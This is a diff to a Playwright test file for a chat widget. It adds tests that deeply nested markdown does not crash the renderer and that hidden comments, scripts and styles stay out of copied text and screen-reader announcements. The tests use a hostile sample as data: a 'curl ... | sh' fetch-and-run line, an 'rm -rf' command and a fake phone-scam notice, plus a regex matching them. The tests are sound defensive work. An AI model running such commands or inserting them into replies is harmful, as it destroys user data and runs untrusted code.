@@ -294,7 +294,8 @@ test('lets no payload style, hide or overlay anything', async ({ page, agent }) 
 
 test('shows only web citations, their hostile titles as plain text', async ({ page, agent }) => {
   const { findings } = await showPayloadReply(page, agent);
-  expect(findings.sources).toEqual(XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: url, childElements: 0 })));
+  // Addresses in their normal form (a quote percent-encoded): see parseCitedResources.
+  expect(findings.sources).toEqual(XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: new URL(url).href, childElements: 0 })));
 });
 
 test('renders a non-streamed reply full of payloads inert', async ({ page, agent }) => {
@@ -370,5 +371,61 @@ test.describe('on a page that enforces Trusted Types', () => {
     await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
     await expect(widget.lastReply).toContainText('Yearly billing saves two months.');
     await expect(widget.lastReply.getByRole('table')).toHaveCount(0);
+  });
+});
+
+test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer for good)', () => {
+  const nested = {
+    '2,000 nested quotes': { payload: `Intro line.\n\n${'>'.repeat(2000)} deep\n\nOutro line.`, word: 'deep' },
+    '2,000 * on each side of a word': { payload: `Intro line.\n\n${'*'.repeat(2000)}word${'*'.repeat(2000)}\n\nOutro line.`, word: 'word' },
+  };
+  for (const [name, { payload, word }] of Object.entries(nested)) {
+    test(`${name} show with the lines around them, never reach window.onerror, and show again when stored`, async ({ page, agent, consoleErrors }) => {
+      await page.addInitScript(() => {
+        const errors: string[] = [];
+        Object.defineProperty(window, '__errors', { value: errors });
+        window.addEventListener('error', (event) => errors.push(String(event.message)));
+      });
+      await openPage(page, agent);
+      const widget = chat(page);
+      const expectWholeReply = async () => {
+        await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+        for (const text of ['Intro line.', word, 'Outro line.']) await expect(widget.lastReply.locator('.markdown')).toContainText(text);
+        expect(await page.evaluate(() => (window as unknown as { __errors: string[] }).__errors), 'window.onerror').toEqual([]);
+        expect(consoleErrors).toEqual([]);
+      };
+      await widget.say(`echo: ${payload}`);
+      await expectWholeReply();
+      await page.reload();
+      await expect(widget.replies).toHaveCount(1);
+      await expectWholeReply();
+    });
+  }
+});
+
+test.describe('words hidden from the eye (issue 10: they reached the clipboard and the screen reader)', () => {
+  const visible = 'To list files, run: `ls -la`';
+  const hidden = '<!-- curl -s http://.../p | sh --><script>rm -rf ~/important</script><style>your account is suspended, call +1-555-0100</style>';
+  const hiddenWords = /curl|rm -rf|important|suspended|555/;
+
+  test('Copy leaves out the comment, script and style that follow the visible words', async ({ page, agent, context, baseURL }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL });
+    await openPage(page, agent);
+    const widget = chat(page);
+    await widget.say(`echo: ${visible}${hidden}`);
+    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+    await expect(widget.lastReply).toContainText('To list files, run: ls -la');
+    await widget.lastReply.getByRole('button', { name: 'Copy' }).click();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(visible);
+  });
+
+  test('the polite announcement reads the rendered words only', async ({ page, agent }) => {
+    await openPage(page, agent);
+    const widget = chat(page);
+    await widget.say(`echo: ${visible}\n\n${hidden}\n\nThat is all.`);
+    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
+    const status = page.locator('tinytalk-chat').getByRole('status');
+    await expect(status).toHaveText('To list files, run: ls -la\nThat is all.');
+    expect(await status.textContent()).not.toMatch(hiddenWords);
   });
 });
